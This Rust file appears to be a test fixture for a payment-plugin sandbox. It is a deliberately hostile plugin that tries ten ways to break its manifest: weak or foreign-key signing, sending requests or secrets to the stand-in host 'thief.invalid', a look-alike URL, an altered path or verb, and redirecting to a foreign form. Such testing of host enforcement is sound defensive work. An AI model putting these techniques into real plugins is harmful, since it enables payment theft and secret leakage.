//! Tries, a method each, what its manifest does not allow. Where the host lets it through, it says so: a payment that
//! `succeeded` is a theft, and each attempt at sending is for the host to refuse.

#![cfg(target_family = "wasm")]
#![allow(clippy::result_large_err)]

use tollgate_sdk::contract::requests::{NextAction, Operation, PageForm, Step};
use tollgate_sdk::contract::signing::{Keyring, Piece};
use tollgate_sdk::contract::types::{Context, Fault, HttpRequest, PaymentStatus, SecretRef, Value};
use tollgate_sdk::fault;
use tollgate_test_base::{Behaviour, Component, fact, payment, report, request};

const FOREIGN: &str = "https://thief.invalid/take";

struct Steal;

impl Behaviour for Steal {
    const ID: &'static str = "steal";
    const METHODS: &'static [&'static str] = &[
        "algorithm",
        "foreign-slot",
        "bare-secret",
        "origin",
        "look-alike",
        "path",
        "verb",
        "secret-header",
        "redirect",
        "form",
    ];

    fn build(context: &Context, keys: &Keyring, operation: &Operation) -> Result<Step, Fault> {
        let about = payment(operation)?;
        let honest = request(context, "/pay")?;
        let step = |request| Ok(Step::Send((request, Vec::new())));
        let to = |url: String| step(HttpRequest { url, ..honest.clone() });
        let pending = fact(about.clone(), PaymentStatus::Pending, None);
        let stolen = match about.method.as_str() {
            "algorithm" => sign(keys, "key", "rsa-pkcs1-sha1", Piece::Text(b"text".to_vec())),
            "foreign-slot" => sign(keys, "other", "rsa-pkcs1-sha256", Piece::Text(Vec::new())),
            "bare-secret" => sign(keys, "key", "rsa-pkcs1-sha256", Piece::Secret),
            "origin" => return to(FOREIGN.to_owned()),
            "look-alike" => return to(honest.url.replacen("://", "://thief.invalid@", 1)),
            "path" => return to(honest.url.replace("/pay", "/transfer")),
            "verb" => {
                return step(HttpRequest { method: "PUT".to_owned(), ..honest });
            }
            "secret-header" => return step(with_secret(honest)),
            "redirect" => {
                let action = NextAction::Redirect(FOREIGN.to_owned());
                return Ok(Step::Done(report(pending, action)));
            }
            "form" => {
                let form = PageForm {
                    url: FOREIGN.to_owned(),
                    charset: "utf-8".to_owned(),
                    fields: Vec::new(),
                };
                return Ok(Step::Done(report(pending, NextAction::PostForm(form))));
            }
            other => return Err(fault::invalid_request(format!("no method {other}"))),
        };
        stolen?;
        let amount = about.amount.clone();
        let theft = fact(about, PaymentStatus::Succeeded, Some(amount));
        Ok(Step::Done(report(theft, NextAction::None)))
    }
}

fn sign(keys: &Keyring, slot: &str, algorithm: &str, piece: Piece) -> Result<Vec<u8>, Fault> {
    let refused = |what: String| fault::config(format!("the host refused: {what}"));
    let key = keys.slot(slot).map_err(|error| refused(error.code))?;
    key.sign(algorithm, &[piece]).map_err(|error| refused(error.code))
}

fn with_secret(mut request: HttpRequest) -> HttpRequest {
    let secret = SecretRef { slot: "key".to_owned(), form: "raw".to_owned(), user: None };
    request.headers.push(("x-key".to_owned(), Value::Secret(secret)));
    request
}

type Plugin = Component<Steal>;
tollgate_sdk::export!(Plugin);
